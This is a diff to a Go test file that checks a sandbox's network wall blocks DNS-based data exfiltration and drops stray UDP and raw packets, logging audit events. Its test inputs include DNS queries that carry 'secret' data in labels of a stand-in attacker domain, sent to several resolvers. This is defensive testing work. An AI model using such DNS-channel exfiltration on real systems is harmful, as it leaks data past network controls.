@@ -262,8 +262,8 @@ p host-port direct %[2]s 80 allowed.test:80
 
 // DNS as a channel: a denied name carrying data in its labels, asked of
 // the pod's resolver, of the authoritative server directly (UDP and TCP)
-// and of a public resolver, never reaches the authoritative server. Other
-// UDP is dropped.
+// and of another address (a resolver of the pod's choosing), never reaches
+// the authoritative server. Other UDP is dropped.
 func TestNetDNSExfiltration(t *testing.T) {
 	e := newEnv(t)
 	n := newInet(t)
@@ -274,10 +274,10 @@ func TestNetDNSExfiltration(t *testing.T) {
 p via-resolver dnsq 127.0.0.1 udp secretdata123.evil.test
 p auth-udp dnsq %[1]s udp secretdata124.evil.test
 p auth-tcp dnsq %[1]s tcp secretdata125.evil.test
-p public-udp dnsq 8.8.8.8 udp secretdata126.evil.test
+p public-udp dnsq %[2]s udp secretdata126.evil.test
 p allowed-auth dnsq %[1]s udp allowed.test
 p udp-other udp %[1]s 9999
-`, web))
+`, web, n.other))
 	for _, l := range []string{"via-resolver", "auth-udp", "auth-tcp", "public-udp"} {
 		if !strings.Contains(got[l], "rcode=3") {
 			t.Errorf("%s: want NXDOMAIN from the wall, got %q", l, got[l])
@@ -645,6 +645,15 @@ p own-resolver udp %[1]s 5353
 	time.Sleep(300 * time.Millisecond) // let any stray packet land
 	if k := n.strayCount(); k != 0 {
 		t.Errorf("SECURITY: %d packets reached the test internet", k)
+	}
+	// The kernel refuses raw, packet and ping sockets before a packet
+	// exists (seccomp, no CAP_NET_RAW); the UDP datagrams reach the rules,
+	// which drop them and say so.
+	evs := e.audit("p")
+	web, web6 := n.web.String(), n.web6.String()
+	for _, want := range [][]string{{"addr:" + web, "port:9999"}, {"addr:" + web, "port:443"}, {"addr:" + web, "port:123"},
+		{"addr:" + web6, "port:9999"}, {"addr:" + web, "port:5353"}} {
+		e.wantAudit(evs, "net.drop", "deny", append(want, "proto:udp")...)
 	}
 }
 
